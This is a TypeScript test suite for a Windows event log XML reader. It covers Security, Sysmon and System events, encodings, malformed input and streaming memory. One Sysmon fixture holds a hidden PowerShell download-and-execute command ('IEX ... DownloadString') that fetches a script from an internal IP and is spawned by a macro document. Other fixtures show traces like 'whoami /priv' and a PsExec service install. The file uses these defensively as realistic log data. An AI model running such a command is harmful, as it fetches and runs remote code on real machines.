import assert from 'node:assert/strict';
import { createReadStream, existsSync, readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { describe, it } from 'node:test';
import { fileURLToPath } from 'node:url';

import type { InputSource } from '../../src/ingest/reader.js';
import { EventSplitter } from '../../src/ingest/readers/xml-split.js';
import { xmlReader } from '../../src/ingest/readers/xml.js';
import type { ReaderItem, WindowsEventRecord } from '../../src/ingest/record.js';

const FIXTURES = fileURLToPath(new URL('../fixtures/xml/', import.meta.url));
const SHARED = fileURLToPath(new URL('../../../shared/', import.meta.url));
const SNAPSHOTS = join(SHARED, 'corpus/evtx-samples/omerbenamram-evtx/expected-snapshots');

const NS = 'http://schemas.microsoft.com/win/2004/08/events/event';
const SECURITY_AUDITING = {
  Provider: 'Microsoft-Windows-Security-Auditing',
  ProviderGuid: '{54849625-5478-4994-a5ba-3e3b0328c30d}',
};

function fixture(name: string): InputSource {
  return { name, open: () => createReadStream(join(FIXTURES, name)) };
}

/** A source whose bytes arrive in chunks of `chunkSize` (all at once by default). */
function bytesSource(bytes: Buffer | string, chunkSize = Infinity): InputSource {
  const data = typeof bytes === 'string' ? Buffer.from(bytes) : bytes;
  const chunks: Buffer[] = [];
  for (let at = 0; at < data.length; at += Math.min(chunkSize, data.length)) {
    chunks.push(data.subarray(at, at + chunkSize));
  }
  return { name: 'inline.xml', open: () => Readable.from(chunks) };
}

async function readAll(source: InputSource): Promise<ReaderItem[]> {
  const items: ReaderItem[] = [];
  for await (const item of xmlReader.read(source, { inputTz: 'UTC' })) items.push(item);
  return items;
}

/** The records of the items, failing on any item that is not an event. */
async function readEvents(source: InputSource): Promise<WindowsEventRecord[]> {
  return (await readAll(source)).map((item) => {
    assert.equal(item.kind, 'event', JSON.stringify(item));
    return (item as Extract<ReaderItem, { kind: 'event' }>).event;
  });
}

/** A small event with the given `<System>` children and body, in the event namespace. */
function event(system: string, body = ''): string {
  return `<Event xmlns='${NS}'><System>${system}</System>${body}</Event>`;
}

/** The 1-based column of the first `needle` at or after `from` in a one-line `text`. */
function columnOf(text: string, needle: string, from = 0): number {
  const at = text.indexOf(needle, from);
  assert.ok(at >= 0, `${needle} not found`);
  return at + 1;
}

describe('xmlReader on each form Windows writes', () => {
  it('reads a single event document with a byte order mark and an XML declaration', async () => {
    const items = await readAll(fixture('single-4688.xml'));

    assert.deepEqual(items, [
      {
        kind: 'event',
        position: 'line 2',
        event: {
          System: {
            ...SECURITY_AUDITING,
            EventID: 4688,
            Version: 2,
            Level: 0,
            Task: 13312,
            Opcode: 0,
            Keywords: '0x8020000000000000',
            TimeCreated: '2020-09-14T12:06:02.5912345Z',
            EventRecordID: 246831,
            ProcessID: 4,
            ThreadID: 7540,
            Channel: 'Security',
            Computer: 'WORKSTATION5.theshire.local',
          },
          EventData: {
            SubjectUserSid: 'S-1-5-21-3318261981-2209312447-1592419218-1104',
            SubjectUserName: 'pgustavo',
            SubjectDomainName: 'THESHIRE',
            SubjectLogonId: '0x4a3c1f',
            NewProcessId: '0x1e2c',
            NewProcessName: 'C:\\Windows\\System32\\whoami.exe',
            TokenElevationType: '%%1937',
            ProcessId: '0x17b4',
            CommandLine: '"C:\\Windows\\system32\\whoami.exe" /priv',
            TargetUserSid: 'S-1-0-0',
            TargetUserName: '-',
            TargetDomainName: '-',
            TargetLogonId: '0x0',
            ParentProcessName: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
            MandatoryLabel: 'S-1-16-12288',
          },
        },
      },
    ]);
  });

  const eventViewerExport =
    'reads an Event Viewer export: an <Events> list in UTF-16LE with a byte order mark';
  it(eventViewerExport, async () => {
    const items = await readAll(fixture('events-utf16le.xml'));
    const system = {
      ...SECURITY_AUDITING,
      Version: 0,
      Level: 0,
      Task: 12545,
      Opcode: 0,
      Keywords: '0x8020000000000000',
      ProcessID: 612,
      ThreadID: 2104,
      Channel: 'Security',
      Computer: 'MÜNCHEN-DC01.contoso.local',
    };
    const target = {
      TargetUserSid: 'S-1-5-21-1004336348-1177238915-682003330-1001',
      TargetUserName: 'jürgen',
      TargetDomainName: 'CONTOSO',
      TargetLogonId: '0x5a1f3',
    };

    assert.deepEqual(items, [
      {
        kind: 'event',
        position: 'line 3',
        event: {
          System: {
            ...system,
            EventID: 4634,
            TimeCreated: '2021-03-02T08:15:44.1234567Z',
            EventRecordID: 90211,
          },
          EventData: { ...target, LogonType: '3' },
        },
      },
      {
        kind: 'event',
        position: 'line 4',
        event: {
          System: {
            ...system,
            EventID: 4647,
            TimeCreated: '2021-03-02T08:15:45.0000000Z',
            EventRecordID: 90212,
          },
          EventData: target,
        },
      },
    ]);
  });

  const wevtutilRun =
    'reads the root-less run wevtutil prints, reporting the malformed event and going on';
  it(wevtutilRun, async () => {
    const text = readFileSync(join(FIXTURES, 'wevtutil-run.xml'), 'utf8');
    const brokenStart = columnOf(text, '<Event ', 1);
    const dataStart = columnOf(text, '<EventData>', brokenStart);
    const system = (id: number, second: number) => ({
      Provider: 'Application Error',
      EventSourceName: 'Application Error',
      EventID: 1000,
      Qualifiers: 0,
      Version: 0,
      Level: 2,
      Task: 100,
      Opcode: 0,
      Keywords: '0x80000000000000',
      TimeCreated: `2022-01-05T10:00:0${second}.000000000Z`,
      EventRecordID: id,
      ProcessID: 0,
      ThreadID: 0,
      Channel: 'Application',
      Computer: 'host7',
    });

    const items = await readAll(fixture('wevtutil-run.xml'));

    assert.deepEqual(items, [
      {
        kind: 'event',
        position: 'line 1',
        event: {
          System: system(1, 1),
          EventData: { Data: ['notepad.exe', '10.0.19041.1', 'c0000005'] },
        },
      },
      {
        kind: 'bad',
        position: `line 1, column ${columnOf(text, '</Event>', brokenStart)}`,
        message:
          `malformed event (it starts at line 1, column ${brokenStart}): expected </EventData> ` +
          `to close the <EventData> opened at line 1, column ${dataStart}, ` +
          'found a different closing tag',
      },
      {
        kind: 'event',
        position: 'line 2',
        event: { System: system(3, 3), EventData: { Data: 'mspaint.exe', Binary: '0D0A' } },
      },
    ]);
  });

  it('maps a pretty-printed Sysmon process creation event, decoding entities', async () => {
    const [record] = await readEvents(fixture('sysmon-1.xml'));

    assert.deepEqual(record?.System, {
      Provider: 'Microsoft-Windows-Sysmon',
      ProviderGuid: '{5770385f-c22a-43e0-bf4c-06f5698ffbd9}',
      EventID: 1,
      Version: 5,
      Level: 4,
      Task: 1,
      Opcode: 0,
      Keywords: '0x8000000000000000',
      TimeCreated: '2023-06-01T14:22:31.4203317Z',
      EventRecordID: 31337,
      ProcessID: 3012,
      ThreadID: 4172,
      Channel: 'Microsoft-Windows-Sysmon/Operational',
      Computer: 'ws-alice.contoso.local',
      UserID: 'S-1-5-18',
    });
    assert.deepEqual(record?.EventData, {
      RuleName: 'technique_id=T1059.001,technique_name=PowerShell',
      UtcTime: '2023-06-01 14:22:31.417',
      ProcessGuid: '{7c2a3f21-a9b7-6478-3d02-000000000b00}',
      ProcessId: '6640',
      Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      FileVersion: '10.0.19041.546 (WinBuild.160101.0800)',
      Description: 'Windows PowerShell',
      Product: 'Microsoft® Windows® Operating System',
      Company: 'Microsoft Corporation',
      OriginalFileName: 'PowerShell.EXE',
      CommandLine:
        'powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient)' +
        ".DownloadString('http://10.0.0.5/a.ps1')\"",
      CurrentDirectory: 'C:\\Users\\alice\\',
      User: 'CONTOSO\\alice',
      LogonGuid: '{7c2a3f21-1e4c-6478-1b5e-090000000000}',
      LogonId: '0x95e1b',
      TerminalSessionId: '1',
      IntegrityLevel: 'Medium',
      Hashes: 'SHA256=9F914D42706FE215501044ACD85A32D58AAEF1419D404FDDFA5D3B48F66CCD9F',
      ParentProcessGuid: '{7c2a3f21-a9a0-6478-3a02-000000000b00}',
      ParentProcessId: '5812',
      ParentImage: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
      ParentCommandLine:
        '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n ' +
        '"C:\\Users\\alice\\Downloads\\invoice.docm"',
      ParentUser: 'CONTOSO\\alice',
    });
    assert.deepEqual(Object.keys(record ?? {}), ['System', 'EventData']);
  });

  const system7045 =
    'maps a classic System 7045 event with EventSourceName, Qualifiers and a huge record id';
  it(system7045, async () => {
    const records = await readEvents(fixture('system-7045.xml'));

    assert.deepEqual(records, [
      {
        System: {
          Provider: 'Service Control Manager',
          ProviderGuid: '{555908d1-a6d7-4695-8e1e-26931d2012f4}',
          EventSourceName: 'Service Control Manager',
          EventID: 7045,
          Qualifiers: 16384,
          Version: 0,
          Level: 4,
          Task: 0,
          Opcode: 0,
          Keywords: '0x8080000000000000',
          TimeCreated: '2019-11-20T03:41:17.302894500Z',
          EventRecordID: '18446744073709551610',
          ActivityID: '{b3f7a1c2-0d1e-4a5b-9c8d-7e6f5a4b3c2d}',
          ProcessID: 644,
          ThreadID: 5316,
          Channel: 'System',
          Computer: 'FS02.contoso.local',
          UserID: 'S-1-5-21-1004336348-1177238915-682003330-500',
        },
        EventData: {
          ServiceName: 'PSEXESVC',
          ImagePath: '%SystemRoot%\\PSEXESVC.exe',
          ServiceType: 'user mode service',
          StartType: 'demand start',
          AccountName: 'LocalSystem',
        },
      },
    ]);
  });

  it('maps the fields of a UserData event and names its element (Security 1102)', async () => {
    const records = await readEvents(fixture('security-1102.xml'));

    assert.deepEqual(records, [
      {
        System: {
          Provider: 'Microsoft-Windows-Eventlog',
          ProviderGuid: '{fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148}',
          EventID: 1102,
          Version: 0,
          Level: 4,
          Task: 104,
          Opcode: 0,
          Keywords: '0x4020000000000000',
          TimeCreated: '2024-02-10T22:03:09.8871120Z',
          EventRecordID: 7,
          ProcessID: 1128,
          ThreadID: 4460,
          Channel: 'Security',
          Computer: 'DC01.contoso.local',
        },
        EventData: {
          SubjectUserSid: 'S-1-5-21-1004336348-1177238915-682003330-500',
          SubjectUserName: 'Administrator',
          SubjectDomainName: 'CONTOSO',
          SubjectLogonId: '0x3e7b2',
        },
        Extra: { UserDataElement: 'LogFileCleared' },
      },
    ]);
  });

  it('maps the RenderingInfo of a forwarded event to Message and Extra.RenderingInfo', async () => {
    const records = await readEvents(fixture('forwarded-4624.xml'));

    assert.deepEqual(records, [
      {
        System: {
          ...SECURITY_AUDITING,
          EventID: 4624,
          Version: 2,
          Level: 0,
          Task: 12544,
          Opcode: 0,
          Keywords: '0x8020000000000000',
          TimeCreated: '2022-08-19T09:12:44.0261738Z',
          EventRecordID: 5521873,
          ActivityID: '{0f8f8b1c-b3a5-0002-6f8c-8f0fa5b3d801}',
          RelatedActivityID: '{0f8f8b1c-b3a5-0002-6f8c-8f0fa5b3d802}',
          ProcessID: 720,
          ThreadID: 3880,
          Channel: 'Security',
          Computer: 'APP01.contoso.local',
        },
        EventData: {
          SubjectUserSid: 'S-1-0-0',
          TargetUserName: 'svc_backup',
          LogonType: '3',
          IpAddress: '10.20.30.40',
          IpPort: '0',
        },
        Message:
          'An account was successfully logged on.\r\n\r\nSubject:\r\n\tSecurity ID:\t\tS-1-0-0' +
          '\r\n\r\nLogon Type:\t\t\t3',
        Extra: {
          RenderingInfo: {
            Culture: 'en-US',
            Level: 'Information',
            Task: 'Logon',
            Opcode: 'Info',
            Channel: 'Security',
            Provider: 'Microsoft Windows security auditing.',
            Keywords: ['Audit Success'],
          },
        },
      },
    ]);
  });

  it('reads the same items when the bytes arrive one at a time', async () => {
    for (const name of ['wevtutil-run.xml', 'events-utf16le.xml', 'sysmon-1.xml']) {
      const bytes = readFileSync(join(FIXTURES, name));
      const whole = await readAll(bytesSource(bytes));
      const trickled = await readAll(bytesSource(bytes, 1));
      assert.deepEqual(trickled, whole, name);
    }
  });
});

describe('xmlReader on unusual input', () => {
  it('reads UTF-16BE with a byte order mark', async () => {
    const text = `\ufeff<?xml version="1.0" encoding="UTF-16"?>\n${event('<EventID>4</EventID>')}`;
    const bytes = Buffer.from(text, 'utf16le').swap16();

    assert.deepEqual(await readEvents(bytesSource(bytes)), [
      { System: { EventID: 4 }, EventData: {} },
    ]);
  });

  it('reads events without a namespace and events whose namespace has a prefix', async () => {
    const plain = '<Event><System><EventID>1</EventID></System></Event>';
    const prefixed =
      `<e:Event xmlns:e='${NS}'>` + '<e:System><e:EventID>2</e:EventID></e:System></e:Event>';

    assert.deepEqual(await readEvents(bytesSource(plain + prefixed)), [
      { System: { EventID: 1 }, EventData: {} },
      { System: { EventID: 2 }, EventData: {} },
    ]);
  });

  it('reports an <Event> in another namespace', async () => {
    const items = await readAll(bytesSource("<Event xmlns='urn:other'><System/></Event>"));

    assert.deepEqual(items, [
      {
        kind: 'bad',
        position: 'line 1, column 1',
        message: `expected <Event> in the namespace ${NS} or in none, found "urn:other"`,
      },
    ]);
  });

  it('reports text between events once and skips it up to the next event', async () => {
    const [first, second] = [event('<EventID>1</EventID>'), event('<EventID>2</EventID>')];
    const text = `${first}\nnot xml <b>at</b> all\n${second}`;

    assert.deepEqual(await readAll(bytesSource(text)), [
      { kind: 'event', position: 'line 1', event: { System: { EventID: 1 }, EventData: {} } },
      {
        kind: 'bad',
        position: 'line 2, column 1',
        message: 'expected an <Event> element, found text "not xml"; skipped to the next <Event>',
      },
      { kind: 'event', position: 'line 3', event: { System: { EventID: 2 }, EventData: {} } },
    ]);
  });

  const strayElements =
    'reports an element other than <Event> at the top level and an event without <System>';
  it(strayElements, async () => {
    const text = `<Record><Id>1</Id></Record><Event/>${event('<EventID>3</EventID>')}`;

    assert.deepEqual(await readAll(bytesSource(text)), [
      {
        kind: 'bad',
        position: 'line 1, column 1',
        message: 'expected an <Event> element, found <Record>; skipped to the next <Event>',
      },
      {
        kind: 'bad',
        position: 'line 1, column 28',
        message: 'expected a <System> element in <Event>',
      },
      { kind: 'event', position: 'line 1', event: { System: { EventID: 3 }, EventData: {} } },
    ]);
  });

  const tagsInText =
    'does not cut events at tags inside comments, CDATA sections or attribute values';
  it(tagsInText, async () => {
    const body =
      "<EventData><Data Name='a'><![CDATA[</Event><Event>]]></Data>" +
      "<!-- </Event> --><Data Name='b&gt;'>x</Data></EventData>";
    const text =
      `<!-- <Event> --><?xml-stylesheet href='a.xsl'?>\n` +
      `<Event xmlns='${NS}' note='a/>b'><System><Provider Name='x>y'/></System>${body}</Event>`;

    assert.deepEqual(await readEvents(bytesSource(text)), [
      { System: { Provider: 'x>y' }, EventData: { a: '</Event><Event>', 'b>': 'x' } },
    ]);
  });

  it('ends an unclosed event where the next <Event> begins and keeps that event', async () => {
    const first = `<Event><System><EventID>1</EventID></System><EventData>`;
    const text = `${first}\n${event('<EventID>2</EventID>')}`;

    assert.deepEqual(await readAll(bytesSource(text)), [
      {
        kind: 'bad',
        position: `line 1, column ${first.length + 1}`,
        message:
          'malformed event (it starts at line 1, column 1): expected </EventData> to close the ' +
          '<EventData> opened at line 1, column 45, found the end of the event',
      },
      { kind: 'event', position: 'line 2', event: { System: { EventID: 2 }, EventData: {} } },
    ]);
  });

  it('reports an input that ends inside an event', async () => {
    const items = await readAll(bytesSource(`<Events>\n  <Event><System><EventID>5</Even`));

    assert.equal(items.length, 1);
    assert.equal(items[0]?.kind, 'bad');
    assert.equal(items[0]?.position, 'line 2, column 34');
    const message = (items[0] as { message: string }).message;
    assert.match(message, /^malformed event \(it starts at line 2, column 3\)/);
  });

  it('reports a <System> value that is not a number where it stands', async () => {
    const line = event('<EventID>1</EventID><Level>high</Level>');
    const levelColumn = 2 + columnOf(line, '<Level>');

    assert.deepEqual(await readAll(bytesSource(`\n  ${line}`)), [
      {
        kind: 'bad',
        position: `line 2, column ${levelColumn}`,
        message: 'expected a whole number in <Level>, found "high"',
      },
    ]);
  });

  it('keeps empty, unnamed, repeated and binary EventData items in document order', async () => {
    const body =
      "<EventData><Data Name='Empty'></Data><Data Name='Closed'/><Data>one</Data>" +
      "<Data Name='Sid'>S-1-5-18</Data><Data>two &amp; &#x41;</Data>" +
      "<Data Name='Sid'>S-1-5-19</Data>" +
      '<Binary>DEADBEEF</Binary></EventData>';
    const [record] = await readEvents(bytesSource(event('', body)));

    assert.deepEqual(record?.EventData, {
      Empty: '',
      Closed: '',
      Data: ['one', 'two & A'],
      Sid: ['S-1-5-18', 'S-1-5-19'],
      Binary: 'DEADBEEF',
    });
    const order = ['Empty', 'Closed', 'Data', 'Sid', 'Binary'];
    assert.deepEqual(Object.keys(record?.EventData ?? {}), order);
  });

  it('maps nested UserData elements to objects and repeated names to arrays', async () => {
    const body =
      "<UserData><CertCheck xmlns='urn:capi' Phase='start'>" +
      "<Url scheme='http'>http://crl.example/x.crl</Url><Aux Process='a.exe'/>" +
      '<Headers><H>Accept: */*</H><H>Host: crl.example</H></Headers><Note/>' +
      '</CertCheck></UserData>';
    const [record] = await readEvents(bytesSource(event('', body)));

    assert.deepEqual(record?.EventData, {
      Phase: 'start',
      Url: { scheme: 'http', '#text': 'http://crl.example/x.crl' },
      Aux: { Process: 'a.exe' },
      Headers: { H: ['Accept: */*', 'Host: crl.example'] },
      Note: '',
    });
    assert.deepEqual(record?.Extra, { UserDataElement: 'CertCheck' });
  });

  it('maps ProcessingErrorData to fields', async () => {
    const body =
      '<ProcessingErrorData><ErrorCode>15005</ErrorCode><DataItemName>Path</DataItemName>' +
      '<EventPayload>0102</EventPayload></ProcessingErrorData>';
    const [record] = await readEvents(bytesSource(event('<EventID>7</EventID>', body)));

    assert.deepEqual(record?.EventData, {
      ErrorCode: '15005',
      DataItemName: 'Path',
      EventPayload: '0102',
    });
  });

  it('keeps a field named __proto__ as a plain field', async () => {
    const [record] = await readEvents(
      bytesSource(event('', "<EventData><Data Name='__proto__'>x</Data></EventData>")),
    );

    assert.equal(Object.getPrototypeOf(record?.EventData), Object.prototype);
    assert.deepEqual(Object.entries(record?.EventData ?? {}), [['__proto__', 'x']]);
  });

  it('decodes the single-byte encoding an XML declaration names', async () => {
    const declaration = '<?xml version="1.0" encoding="windows-1252"?>';
    const text = `${declaration}${event('<Computer>CAFÉ</Computer>')}`;

    assert.deepEqual(await readEvents(bytesSource(Buffer.from(text, 'latin1'))), [
      { System: { Computer: 'CAFÉ' }, EventData: {} },
    ]);
  });

  it('reports an encoding it cannot decode and reads nothing more', async () => {
    const text = `<?xml version="1.0" encoding="x-no-such"?>${event('<EventID>1</EventID>')}`;

    assert.deepEqual(await readAll(bytesSource(text)), [
      {
        kind: 'bad',
        position: 'line 1, column 1',
        message: 'the "x-no-such" text encoding is not supported: Node.js cannot decode it',
      },
    ]);
  });

  it('yields nothing for an empty input or one with only a declaration', async () => {
    assert.deepEqual(await readAll(bytesSource('')), []);
    const emptyList = '<?xml version="1.0"?>\r\n<Events></Events>\r\n';
    assert.deepEqual(await readAll(bytesSource(emptyList)), []);
  });
});

describe('EventSplitter', () => {
  it('drops the text of an event longer than its limit and keeps the events after it', () => {
    const splitter = new EventSplitter(40);
    const large = `<Event><System><Computer>${'x'.repeat(100)}</Computer></System></Event>`;
    const small = '<Event/>';

    const pieces = [
      ...splitter.push(large.slice(0, 30)),
      ...splitter.push(large.slice(30) + small),
      ...splitter.end(),
    ];

    assert.deepEqual(pieces, [
      { kind: 'oversized', start: { line: 1, column: 1 }, length: large.length },
      { kind: 'segment', start: { line: 1, column: large.length + 1 }, text: small },
    ]);
  });
});

describe('xmlReader on the shared corpus', () => {
  const skip = existsSync(SNAPSHOTS) ? false : 'the shared corpus (../shared) is not present';

  it('reads each XML rendering in the evtx snapshots as one event', { skip }, async () => {
    const names = readdirSync(SNAPSHOTS).filter((name) => name.includes('event_xml'));
    assert.ok(names.length > 0);

    for (const name of names) {
      const snapshot = readFileSync(join(SNAPSHOTS, name), 'utf8');
      const xml = snapshot.slice(snapshot.indexOf('<?xml'));
      const records = await readEvents(bytesSource(xml));

      assert.equal(records.length, 1, name);
      assert.equal(typeof records[0]?.System.EventID, 'number', name);
      assert.match(records[0]?.System.TimeCreated ?? '', /^\d{4}-\d\d-\d\dT[\d:.]+Z$/, name);
    }
  });
});

describe('xmlReader memory', () => {
  it('keeps the heap flat while streaming a generated 50 MB root-less run', async () => {
    const template = readFileSync(join(FIXTURES, 'single-4688.xml'), 'utf8')
      .replace(/^\ufeff<\?xml[^>]*>\n/, '')
      .trim();
    const targetBytes = 50 * 1024 * 1024;
    let generated = 0;

    function* run(): Generator<Buffer> {
      for (let bytes = 0; bytes < targetBytes;) {
        let chunk = '';
        while (chunk.length < 64 * 1024) {
          chunk += template.replace('246831', String(++generated)) + '\r\n';
        }
        bytes += chunk.length;
        yield Buffer.from(chunk);
      }
    }

    let count = 0;
    let peakHeap = 0;
    const source = { name: 'run.xml', open: () => Readable.from(run()) };
    for await (const item of xmlReader.read(source, { inputTz: 'UTC' })) {
      assert.equal(item.kind, 'event');
      count++;
      if (item.kind === 'event') assert.equal(item.event.System.EventRecordID, count);
      if (count % 500 === 0) peakHeap = Math.max(peakHeap, process.memoryUsage().heapUsed);
    }

    assert.equal(count, generated);
    assert.ok(count > 30_000, `only ${count} events were generated`);
    assert.ok(peakHeap < 200 * 1024 * 1024, `heap reached ${Math.round(peakHeap / 2 ** 20)} MB`);
  });
});
